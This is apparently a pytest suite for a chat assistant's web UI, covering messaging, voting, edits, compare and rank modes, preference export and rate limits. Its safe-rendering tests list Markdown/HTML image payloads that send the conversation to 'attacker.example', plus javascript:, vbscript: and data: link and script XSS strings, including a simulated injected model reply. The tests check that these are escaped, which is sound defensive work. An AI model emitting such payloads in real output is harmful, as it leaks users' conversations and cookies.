"""The UI handlers called directly (no browser): what each does to the session and the store."""

from __future__ import annotations

import json
import types

import pytest

from assistant.chat import Engine
from assistant.config import ModelArgs, ServeArgs
from assistant.feedback import FeedbackStore
from assistant.model import build_policy
from assistant import ui
from tests.tiny import save_tiny_model


@pytest.fixture(scope="module")
def engine(tmp_path_factory):
    path = save_tiny_model(tmp_path_factory.mktemp("tiny"))
    eng = Engine(build_policy(ModelArgs(model=str(path), device="cpu", quantize="none")), max_batch=4)
    yield eng
    eng.close()


@pytest.fixture
def deps(engine, tmp_path):
    store = FeedbackStore(tmp_path / "feedback.db")
    yield ui.Deps(engine=engine, store=store, args=ServeArgs(max_message_chars=200), model_name="tiny")
    store.close()


def run(gen):
    """Drain a streaming handler; return its last yield."""
    last = None
    for last in gen:
        pass
    return last


def chat(deps, session, text, compare=False, max_new_tokens=6):
    return run(ui.send(deps, session, text, "Be brief.", 0.0, 1.0, max_new_tokens, compare))


def named(deps, name="ada"):
    session = ui.Session()
    ui.set_user(deps, session, name, "tester")
    return session


def test_validate_message_rejects_empty_and_too_long():
    with pytest.raises(ValueError, match="empty"):
        ui.validate_message("  \n\t ", 10)
    with pytest.raises(ValueError, match="limit is 10"):
        ui.validate_message("x" * 11, 10)
    assert ui.validate_message("  hi ", 10) == "hi"


def test_display_escapes_html():
    shown = ui.display([ui.Turn("user", '<script>alert(1)</script> & <b>x</b>')])
    assert shown[0]["content"] == "&lt;script&gt;alert(1)&lt;/script&gt; &amp; &lt;b&gt;x&lt;/b&gt;"


@pytest.mark.parametrize("liked, expected", [(True, (1, "")), (False, (-1, "")), ("", (0, "")), (None, (0, "")), ("Incorrect", (-1, "Incorrect"))])
def test_vote_value_maps_like_payloads(liked, expected):
    assert ui.vote_value(liked) == expected


def test_send_streams_and_stores_reply_with_context(deps):
    session = named(deps)
    chatbot, box, *_ = chat(deps, session, "hello <b>there</b>")
    assert box == ""
    assert [t.role for t in session.turns] == ["user", "assistant"]
    reply = deps.store.get_reply(session.turns[1].reply_id)
    assert reply["context"] == [{"role": "system", "content": "Be brief."}, {"role": "user", "content": "hello <b>there</b>"}]
    assert reply["adapter_version"] == "base" and reply["model"] == "tiny"
    assert reply["completion_tokens"] == 6 and reply["params"]["max_new_tokens"] == 6
    assert chatbot[0]["content"] == "hello &lt;b&gt;there&lt;/b&gt;"


def test_empty_message_stores_nothing_and_keeps_session(deps):
    session = named(deps)
    out = chat(deps, session, "   ")
    assert session.turns == [] and out[1] != ""  # the textbox is left alone
    assert deps.store.counts()["replies"] == 0


def test_vote_change_and_removal_keep_one_row(deps):
    session = named(deps)
    chat(deps, session, "hi")
    ui.record_vote(deps, session, 1, 1, "good")
    ui.record_vote(deps, session, 1, -1, "changed my mind")
    status = ui.record_vote(deps, session, 1, 0, "")
    assert "removed" in status
    counts = deps.store.counts()
    assert counts["votes"] == 1 and counts["vote_events"] == 3


def test_vote_on_user_message_or_missing_index_stores_nothing(deps):
    session = named(deps)
    chat(deps, session, "hi")
    ui.record_vote(deps, session, 0, 1, "")
    ui.record_vote(deps, session, 7, 1, "")
    assert deps.store.counts()["votes"] == 0


def test_feedback_needs_a_name(deps):
    session = ui.Session()
    chat(deps, session, "hi")
    assert ui.record_vote(deps, session, 1, 1, "") == ui.NAME_FIRST
    assert deps.store.counts()["votes"] == 0


def test_like_event_with_reason_option(deps):
    session = named(deps)
    chat(deps, session, "hi")
    data = types.SimpleNamespace(index=1, liked="Incorrect", value="x")
    ui.on_like(deps, session, "wrong city", data)
    vote = deps.store.db().execute("SELECT value, reason FROM votes").fetchone()
    assert tuple(vote) == (-1, "Incorrect; wrong city")


def test_edit_stores_correction_and_conversation_continues_from_it(deps):
    session = named(deps)
    chat(deps, session, "first")
    original_id = session.turns[1].reply_id
    original_text = deps.store.get_reply(original_id)["text"]
    ui.on_edit(deps, session, types.SimpleNamespace(index=1, value="A better &lt;reply&gt;", previous_value=""))
    assert session.turns[1].content == "A better <reply>"
    row = deps.store.db().execute("SELECT reply_id, text FROM corrections").fetchone()
    assert tuple(row) == (original_id, "A better <reply>")
    assert deps.store.get_reply(original_id)["text"] == original_text  # the original stays
    chat(deps, session, "second")
    context = deps.store.get_reply(session.turns[3].reply_id)["context"]
    assert context[2] == {"role": "assistant", "content": "A better <reply>"}


def test_edit_of_user_message_is_refused(deps):
    session = named(deps)
    chat(deps, session, "first")
    ui.on_edit(deps, session, types.SimpleNamespace(index=0, value="changed", previous_value="first"))
    assert session.turns[0].content == "first"
    assert deps.store.counts()["corrections"] == 0


def test_compare_vote_stores_choice_and_chosen_reply_continues(deps):
    session = named(deps)
    out = chat(deps, session, "pick one", compare=True)
    assert out[2] and out[3]  # both sides shown
    assert session.pending is not None
    a, b = session.pending
    blocked = chat(deps, session, "next")  # no new message until the vote
    assert len(session.turns) == 1 and blocked is not None
    _, _, _, _, status = ui.decide(deps, session, "b")
    assert "A came from adapter `base`, B from `base`" in status
    row = deps.store.db().execute("SELECT reply_a_id, reply_b_id, choice FROM comparisons").fetchone()
    assert tuple(row) == (a["reply_id"], b["reply_id"], "b")
    assert session.turns[-1].content == b["text"] and session.turns[-1].reply_id == b["reply_id"]
    assert session.pending is None


def test_regenerate_replaces_last_reply_and_keeps_old_one_stored(deps):
    session = named(deps)
    chat(deps, session, "hi")
    first = session.turns[1].reply_id
    run(ui.regenerate(deps, session, "Be brief.", 0.0, 1.0, 6))
    assert len(session.turns) == 2 and session.turns[1].reply_id != first
    assert deps.store.get_reply(session.turns[1].reply_id)["source"] == "regenerate"
    assert deps.store.get_reply(first)  # still there


def test_stop_ends_reply_early_and_stores_it_as_stopped(deps):
    session = named(deps)
    gen = ui.send(deps, session, "talk for a long time", "", 0.0, 1.0, 500, False)  # greedy: deterministic, no early eos
    next(gen)  # first streamed piece
    ui.stop(session)
    run(gen)
    reply = deps.store.get_reply(session.turns[1].reply_id)
    assert reply["finish_reason"] == "stopped" and reply["completion_tokens"] < 500


def test_read_only_store_keeps_chat_working(engine, tmp_path):
    FeedbackStore(tmp_path / "feedback.db").close()
    store = FeedbackStore(tmp_path / "feedback.db", readonly=True)
    deps = ui.Deps(engine=engine, store=store, args=ServeArgs(), model_name="tiny")
    session = ui.Session()
    with pytest.warns(UserWarning, match="not saved|read"):
        chat(deps, session, "hello")
    assert session.turns[-1].role == "assistant" and session.turns[-1].reply_id is None
    assert ui.record_vote(deps, session, 1, 1, "") == ui.NAME_FIRST


def test_clear_starts_a_new_conversation(deps):
    session = named(deps)
    chat(deps, session, "hi")
    first = session.conversation_id
    ui.clear(deps, session)
    chat(deps, session, "again")
    assert session.conversation_id != first and len(session.turns) == 2


# -- compare sides sampled differently, and where they were shown ------------------------


class Reverse:
    """A stand-in for Deps.rng whose shuffle reverses: the user's-settings reply is shown last."""

    def shuffle(self, items):
        items.reverse()


def test_spread_temperatures_stay_in_range_and_differ():
    assert ui.spread_temperatures(0.7, 0.3, 4) == [0.7, 1.0, 0.4, 1.3]
    assert ui.spread_temperatures(0.0, 0.5, 4) == [0.0, 0.5, 1.0, 1.5]  # nothing below greedy
    assert ui.spread_temperatures(2.0, 0.5, 4) == [2.0, 1.5, 1.0, 0.5]  # nothing above the slider
    assert ui.spread_temperatures(1.0, 0.5, 4) == [1.0, 1.5, 0.5, 2.0]
    assert ui.spread_temperatures(0.7, 0.0, 3) == [0.7, 0.7, 0.7]


def test_sampling_plan_puts_a_live_candidate_against_the_served_adapter_at_the_users_settings():
    params = ui.GenParams(temperature=0.7, top_p=0.9, max_new_tokens=8)
    variant, arms = ui.sampling_plan("v000001", "v000002", params, 0.3, 2)
    assert variant == "live-candidate"
    assert [(a.version, a.params.temperature) for a in arms] == [("v000001", 0.7), ("v000002", 0.7)]
    _, arms = ui.sampling_plan("v000001", "v000002", params, 0.3, 3)  # a ranking: the third reply spreads
    assert [(a.version, a.params.temperature) for a in arms] == [("v000001", 0.7), ("v000002", 0.7), ("v000001", 1.0)]
    variant, arms = ui.sampling_plan("v000001", None, params, 0.3, 2)
    assert variant == "temperature-spread" and [(a.version, a.params.temperature) for a in arms] == [("v000001", 0.7), ("v000001", 1.0)]
    assert {a.params.top_p for a in arms} == {0.9} and {a.params.max_new_tokens for a in arms} == {8}
    assert ui.sampling_plan("v000001", None, params, 0.0, 2)[0] == "plain"


def test_live_candidate_only_when_loaded_and_not_serving(deps):
    assert ui.live_candidate(deps) is None  # no watcher
    deps.watcher = types.SimpleNamespace(live="v000009")  # LIVE names a version that is not loaded
    assert ui.live_candidate(deps) is None


def test_compare_sides_record_how_they_were_sampled_and_where_they_were_shown(deps):
    deps.rng = Reverse()
    session = named(deps)
    _, _, shown_a, shown_b, _, status = run(ui.send(deps, session, "pick one", "Be brief.", 0.7, 1.0, 6, True))
    assert "Which reply is better" in status
    a, b = session.pending
    assert (shown_a, shown_b) == (a["text"], b["text"])
    stored_a, stored_b = deps.store.get_reply(a["reply_id"]), deps.store.get_reply(b["reply_id"])
    common = {"variant": "temperature-spread", "user_temperature": 0.7, "top_p": 1.0, "max_new_tokens": 6}
    assert stored_a["params"] == {**common, "temperature": 1.0, "side": "A"}  # reversed: the spread arm is A
    assert stored_b["params"] == {**common, "temperature": 0.7, "side": "B"}
    assert stored_b["id"] < stored_a["id"]  # stored in the order sampled, the user's settings first
    status = ui.decide(deps, session, "a")[-1]
    assert "A came from adapter `base`, B from `base` (sampled at temperature 1 and 0.7)" in status


def test_compare_sides_are_shown_in_both_orders(deps):
    seen = set()
    for _ in range(20):
        session = named(deps)
        chat(deps, session, "pick one", compare=True)
        seen.add(tuple(deps.store.get_reply(r["reply_id"])["params"]["temperature"] for r in session.pending))
        ui.decide(deps, session, "tie")
        if len(seen) == 2:
            break
    assert seen == {(0.0, 0.3), (0.3, 0.0)}


def test_compare_with_no_spread_samples_both_sides_alike(deps):
    deps.args.compare_temperature_spread = 0.0
    session = named(deps)
    chat(deps, session, "pick one", compare=True)
    params = [deps.store.get_reply(r["reply_id"])["params"] for r in session.pending]
    assert {p["variant"] for p in params} == {"plain"} and {p["temperature"] for p in params} == {0.0}
    assert {p["side"] for p in params} == {"A", "B"}


def test_page_send_shows_compare_sides_as_escaped_chat_messages(deps):
    session = named(deps)
    out = run(ui.send_in_mode(deps, session, "pick one", "Be brief.", 0.0, 1.0, 6, "compare"))
    a, b = session.pending
    assert out[2] == ui.panel(a["text"]) and out[3] == ui.panel(b["text"])
    assert ui.panel("<b>x</b>") == [{"role": "assistant", "content": "&lt;b&gt;x&lt;/b&gt;"}]
    assert ui.panel("") == []


def test_page_send_refuses_an_unknown_mode(deps):
    session = named(deps)
    with pytest.warns(UserWarning, match="Unknown mode"):
        run(ui.send_in_mode(deps, session, "hi", "", 0.0, 1.0, 6, "debate"))
    assert session.turns == [] and deps.store.counts()["replies"] == 0


# -- rank mode -----------------------------------------------------------------------------


def rank_chat(deps, session, text="rank these", temperature=0.7):
    return run(ui.send_rank(deps, session, text, "Be brief.", temperature, 1.0, 6))


@pytest.mark.parametrize("k", [3, 4])
def test_ranking_k_replies_gives_every_implied_pair_in_the_export(deps, tmp_path, k):
    deps.args.rank_k = k
    session = named(deps)
    out = rank_chat(deps, session)
    shown = session.ranking
    assert len(shown) == k and list(out[2:2 + k]) == [r["text"] for r in shown]
    stored = [deps.store.get_reply(r["reply_id"]) for r in shown]
    assert {r["source"] for r in stored} == {"rank"}
    assert [r["params"]["position"] for r in stored] == list(range(1, k + 1))
    assert sorted(r["params"]["temperature"] for r in stored) == sorted(ui.spread_temperatures(0.7, 0.3, k))
    assert {(r["params"]["variant"], r["params"]["user_temperature"]) for r in stored} == {("temperature-spread", 0.7)}
    places = list(range(k, 0, -1))  # the person puts them in reverse order: the last shown is best
    chatbot, row, status, *cleared = ui.rank_by_places(deps, session, *places)
    assert cleared == [None] * k and session.ranking is None
    best_first = [r["reply_id"] for r in reversed(shown)]
    [(reply_ids,)] = deps.store.db().execute("SELECT reply_ids FROM rankings").fetchall()
    assert json.loads(reply_ids) == best_first
    assert f"{k * (k - 1) // 2} preference pairs" in status
    assert session.turns[-1].reply_id == shown[-1]["reply_id"]  # the best continues the chat
    assert chatbot[-1]["content"] == ui.safe_markdown(shown[-1]["text"])
    out_file = tmp_path / "pref.jsonl"
    assert deps.store.export("preference", out_file) == k * (k - 1) // 2
    rows = [json.loads(line) for line in out_file.read_text().splitlines()]
    text = {r["reply_id"]: r["text"] for r in shown}
    expected = [(text[better], text[worse]) for i, better in enumerate(best_first) for worse in best_first[i + 1:]]
    assert [(r["chosen"][0]["content"], r["rejected"][0]["content"]) for r in rows] == expected
    assert {json.dumps(r["prompt"]) for r in rows} == {json.dumps([{"role": "system", "content": "Be brief."}, {"role": "user", "content": "rank these"}])}


def test_rank_api_takes_the_order_as_text(deps):
    session = named(deps)
    rank_chat(deps, session)
    shown = session.ranking
    _, row, status = ui.rank(deps, session, "2, 3, 1")
    [(reply_ids,)] = deps.store.db().execute("SELECT reply_ids FROM rankings").fetchall()
    assert json.loads(reply_ids) == [shown[1]["reply_id"], shown[2]["reply_id"], shown[0]["reply_id"]]
    assert "reply 2 > 3 > 1" in status and "Reply 2 continues the chat" in status


@pytest.mark.parametrize("order", ["1,1,2", "1,2", "best,worst", [1, 2, 4]])
def test_bad_order_stores_nothing_and_the_ranking_still_waits(deps, order):
    session = named(deps)
    rank_chat(deps, session)
    with pytest.warns(UserWarning, match="order"):
        ui.rank(deps, session, order)
    assert session.ranking is not None and deps.store.counts()["rankings"] == 0


@pytest.mark.parametrize("places, message", [((1, None, 2), "reply 2 has none"), ((1, 1, 2), "1st is given to replies 1 and 2")])
def test_places_must_give_each_reply_its_own_place(deps, places, message):
    session = named(deps)
    rank_chat(deps, session)
    with pytest.warns(UserWarning, match=message):
        *_, kept = ui.rank_by_places(deps, session, *places)
    assert kept == UNCHANGED  # the places stay as the person set them
    assert session.ranking is not None and deps.store.counts()["rankings"] == 0


def test_all_about_the_same_stores_every_pair_as_a_tie(deps):
    session = named(deps)
    rank_chat(deps, session)
    shown = session.ranking
    *_, status, p1, p2, p3 = ui.rank_tie(deps, session, 1, 2, None)
    assert (p1, p2, p3) == (None, None, None) and "Saved as a tie" in status
    rows = deps.store.db().execute("SELECT reply_a_id, reply_b_id, choice FROM comparisons ORDER BY id").fetchall()
    ids = [r["reply_id"] for r in shown]
    assert [tuple(r) for r in rows] == [(ids[0], ids[1], "tie"), (ids[0], ids[2], "tie"), (ids[1], ids[2], "tie")]
    assert deps.store.counts()["rankings"] == 0
    assert session.turns[-1].reply_id == ids[0]


def test_no_new_message_or_regenerate_while_a_ranking_waits(deps):
    session = named(deps)
    rank_chat(deps, session)
    with pytest.warns(UserWarning, match="Rank the replies above first"):
        chat(deps, session, "next")
    with pytest.warns(UserWarning, match="no reply to regenerate"):
        run(ui.regenerate(deps, session, "Be brief.", 0.0, 1.0, 6))
    assert len(session.turns) == 1 and deps.store.counts()["replies"] == 3


def test_ranking_needs_a_name_and_clear_drops_it(deps):
    session = ui.Session()
    rank_chat(deps, session)
    with pytest.warns(UserWarning, match="name"):
        assert ui.rank(deps, session, "1,2,3")[-1] == ui.NAME_FIRST
    assert session.ranking is not None
    ui.clear_page(deps, session)
    assert session.ranking is None and session.turns == []
    with pytest.warns(UserWarning, match="no replies waiting"):
        ui.rank(deps, session, "1,2,3")


def test_page_send_in_rank_mode_fills_the_rank_panels(deps):
    session = named(deps)
    out = run(ui.send_in_mode(deps, session, "rank these", "Be brief.", 0.7, 1.0, 6, "rank"))
    k = deps.args.rank_k
    assert list(out[5:5 + k]) == [ui.panel(r["text"]) for r in session.ranking]
    assert "Put the 3 replies in order" in out[-1]


def test_rank_k_and_spread_flags_are_validated():
    for bad in (dict(rank_k=2), dict(rank_k=5), dict(compare_temperature_spread=-0.1), dict(compare_temperature_spread=0.6)):
        with pytest.raises(ValueError, match="--rank-k|--compare-temperature-spread"):
            ServeArgs(**bad).validate()
    ServeArgs(rank_k=4, compare_temperature_spread=0.5).validate()


# -- reasons belong to the vote they were given with -----------------------------------------


UNCHANGED = ui.gr.update()


def like(index, liked):
    return types.SimpleNamespace(index=index, liked=liked, value="x")


def test_reason_is_stored_with_its_vote_only_and_the_why_box_is_cleared(deps, tmp_path):
    session = named(deps)
    chat(deps, session, "first")
    chat(deps, session, "second")
    _, status, box = ui.on_like(deps, session, "  rambles on ", like(1, "Too long"))
    assert "👎 recorded" in status and box == ""
    _, _, box = ui.on_like(deps, session, box, like(3, True))  # the next vote, with the box as it now is
    assert box == UNCHANGED  # nothing typed: nothing to clear
    votes = deps.store.db().execute("SELECT r.id, v.value, v.reason FROM votes v JOIN replies r ON r.id = v.reply_id ORDER BY v.id").fetchall()
    first, second = session.turns[1].reply_id, session.turns[3].reply_id
    assert [tuple(v) for v in votes] == [(first, -1, "Too long; rambles on"), (second, 1, "")]
    out = tmp_path / "kto.jsonl"
    deps.store.export("kto", out)
    assert [(r["label"], r["reason"]) for r in map(json.loads, out.read_text().splitlines())] == [(False, "Too long; rambles on"), (True, "")]


def test_why_text_stays_when_the_vote_was_not_stored_or_removed(deps):
    session = ui.Session()  # no name: nothing is stored
    chat(deps, session, "hi")
    with pytest.warns(UserWarning):
        _, _, box = ui.on_like(deps, session, "keep me", like(1, False))
    assert box == UNCHANGED
    session = named(deps)
    chat(deps, session, "hi")
    ui.on_like(deps, session, "", like(1, False))
    _, status, box = ui.on_like(deps, session, "not for a removal", like(1, ""))
    assert "removed" in status and box == UNCHANGED
    assert deps.store.db().execute("SELECT value, reason FROM votes").fetchone() == (0, "")


# -- the page's wiring -------------------------------------------------------------------------


def test_api_routes_keep_their_shape_and_page_events_are_private(deps):
    demo = ui.build_demo(deps)
    routes = {f.api_name: f for f in demo.fns.values() if f.api_visibility != "private"}
    assert {"send", "send_rank", "rank", "vote", "correct", "choose_a", "clear", "regenerate"} <= set(routes)
    send = routes["send"]
    assert [type(c).__name__ for c in send.inputs] == ["State", "Textbox", "Textbox", "Slider", "Slider", "Slider", "Checkbox"]
    assert [type(c).__name__ for c in send.outputs] == ["Chatbot", "Textbox", "Textbox", "Textbox", "Column", "Markdown"]
    assert [type(c).__name__ for c in routes["rank"].inputs] == ["State", "Textbox"]
    private = [f for f in demo.fns.values() if f.name in ("send_in_mode", "rank_by_places", "rank_tie")]
    assert len(private) == 4 and {f.api_visibility for f in private} == {"private"}


# -- safe rendering of model text ------------------------------------------------------------


LEAK = "http://attacker.example/collect?q=the+conversation"
IMAGES = [
    f"![]({LEAK})",
    f"Sure! ![logo]({LEAK}) Here it is.",
    f'![x]({LEAK} "title")',
    f"![x][img]\n\n[img]: {LEAK}",
    f"![img]\n\n[img]: {LEAK}",
    f"[![x]({LEAK})](https://example.com)",
    f"!![x]({LEAK})",
]
UNSAFE_LINKS = [
    "[click](javascript:alert(document.cookie))",
    "[click]( JavaScript:alert(1))",
    "[click](java\\script:alert(1))",
    "[click](<javascript:alert(1)>)",
    "[click](\n  vbscript:msgbox(1))",
    "[click](data:text/html,<script>alert(1)</script>)",
    "[click][r]\n\n[r]: javascript:alert(1)",
    "[click][r]\n\n[r]:data:text/html,x",
]


@pytest.mark.parametrize("text", IMAGES)
def test_safe_markdown_loads_no_image(text):
    shown = ui.safe_markdown(text)
    assert "![" not in shown  # every Markdown image starts with '![': none is left to load
    assert "&#33;[" in shown  # shown as '!' and a link instead


@pytest.mark.parametrize("text", [f'<img src="{LEAK}">', f"<IMG SRC={LEAK} onerror=alert(1)>", f'<svg><image href="{LEAK}"/></svg>',
                                  f'<picture><source srcset="{LEAK}"></picture>', "<script>alert(1)</script>"])
def test_safe_markdown_shows_html_as_text(text):
    shown = ui.safe_markdown(text)
    assert "<" not in shown and ">" not in shown and shown.startswith("&lt;")


@pytest.mark.parametrize("text", UNSAFE_LINKS)
def test_safe_markdown_shows_links_to_other_schemes_as_text(text):
    shown = ui.safe_markdown(text)
    assert "](" not in shown and "]:" not in shown
    assert "]&#40;" in shown or "]&#58;" in shown


@pytest.mark.parametrize("text", ["[docs](https://example.com/a_(b))", "[mail](mailto:ada@example.com)", "[here](#section)",
                                  "[rel](/docs/a:b)", "[r]\n\n[r]: https://example.com", "**bold**, _it_, `code`, 1. list",
                                  "time: 10:30, see [note]: below"])
def test_safe_markdown_leaves_ordinary_markdown_and_http_links_alone(text):
    assert ui.safe_markdown(text) == ui.html.escape(text, quote=False)


@pytest.mark.parametrize("text", IMAGES + UNSAFE_LINKS + ["a < b && c > d", "&#33;[x](y) &amp; &lt", "plain"])
def test_safe_markdown_is_undone_by_unescape(text):
    assert ui.html.unescape(ui.safe_markdown(text)) == text  # what an edit of the shown text gives back


class ScriptedEngine:
    """Stands in for the Engine: each reply is the next of `texts`, produced whole."""

    def __init__(self, texts: list[str]):
        self.policy = types.SimpleNamespace(current="base", loaded={})
        self.texts = list(texts)

    def submit(self, context, params, version=None):
        from assistant import chat

        stream = chat.Stream([0], params, version or self.policy.current)
        text = self.texts.pop(0)
        stream.reply = chat.Reply(text, stream.version, 1, 1, 1.0, 1.0, "eos")
        stream._queue.put(text)
        stream._queue.put(chat._DONE)
        return stream


@pytest.fixture
def scripted(tmp_path):
    """deps whose engine replies with scripted texts: scripted(*texts)."""
    stores = []

    def make(*texts: str) -> ui.Deps:
        store = FeedbackStore(tmp_path / f"feedback{len(stores)}.db")
        stores.append(store)
        return ui.Deps(engine=ScriptedEngine(list(texts)), store=store, args=ServeArgs(compare_temperature_spread=0.0),
                       model_name="tiny")

    yield make
    for store in stores:
        store.close()


INJECTED = f"The answer is 4. ![]({LEAK}) <img src=\"{LEAK}\"> [more](javascript:alert(1))"


def shown_contents(*outputs) -> list[str]:
    """Every message content in handler outputs (chatbot values and panel values)."""
    return [m["content"] for out in outputs if isinstance(out, list) for m in out if isinstance(m, dict)]


def test_chat_reply_is_shown_safe_and_stored_as_generated(scripted):
    deps = scripted(INJECTED)
    session = named(deps)
    chatbot, *_ = run(ui.send_in_mode(deps, session, "2+2?", "", 0.7, 1.0, 16, "chat"))
    assert chatbot[-1]["content"] == ui.safe_markdown(INJECTED)
    assert "![" not in chatbot[-1]["content"] and "<img" not in chatbot[-1]["content"] and "](javascript" not in chatbot[-1]["content"]
    assert deps.store.get_reply(session.turns[-1].reply_id)["text"] == INJECTED
    assert session.turns[-1].content == INJECTED


def test_compare_and_rank_panels_show_replies_safe(scripted):
    deps = scripted(INJECTED, "fine", INJECTED, "also fine", "ok")
    session = named(deps)
    out = run(ui.send_in_mode(deps, session, "2+2?", "", 0.7, 1.0, 16, "compare"))
    after = ui.decide(deps, session, "a" if session.pending[0]["text"] == INJECTED else "b")
    ranked = run(ui.send_in_mode(deps, session, "again", "", 0.7, 1.0, 16, "rank"))
    contents = shown_contents(*out, *after, *ranked)
    assert ui.safe_markdown(INJECTED) in contents
    assert not [c for c in contents if "![" in c or "<img" in c or "](javascript" in c]
    stored = deps.store.db().execute("SELECT text FROM replies").fetchall()
    assert sorted(r[0] for r in stored) == sorted([INJECTED, "fine", INJECTED, "also fine", "ok"])


def test_an_unchanged_edit_of_a_safe_shown_reply_stores_no_correction(scripted):
    deps = scripted(INJECTED)
    session = named(deps)
    chatbot, *_ = run(ui.send_in_mode(deps, session, "2+2?", "", 0.7, 1.0, 16, "chat"))
    ui.on_edit(deps, session, types.SimpleNamespace(index=1, value=chatbot[1]["content"], previous_value=""))
    assert deps.store.counts()["corrections"] == 0 and session.turns[1].content == INJECTED


# -- the client's address reaches the rate limits ------------------------------------------------


def test_wired_handlers_get_the_client_address_for_the_rate_limits(deps):
    import inspect

    from assistant.limits import Limits

    deps.limits = Limits(messages_per_minute=1, feedback_per_minute=0)
    demo = ui.build_demo(deps)
    send = next(f for f in demo.fns.values() if f.api_name == "send")
    assert list(inspect.signature(send.fn).parameters)[-1] == "request"  # Gradio hands it the request
    request = types.SimpleNamespace(client=types.SimpleNamespace(host="203.0.113.5"))
    first = run(send.fn(named(deps, "ada"), "hi", "", 0.0, 1.0, 4, False, request))
    assert "Too many" not in first[-1]
    with pytest.warns(UserWarning, match="Too many messages"):
        *_, status = run(send.fn(named(deps, "bob"), "hi", "", 0.0, 1.0, 4, False, request))  # someone else, the same address
    assert status.startswith("Too many messages") and deps.store.counts()["replies"] == 1
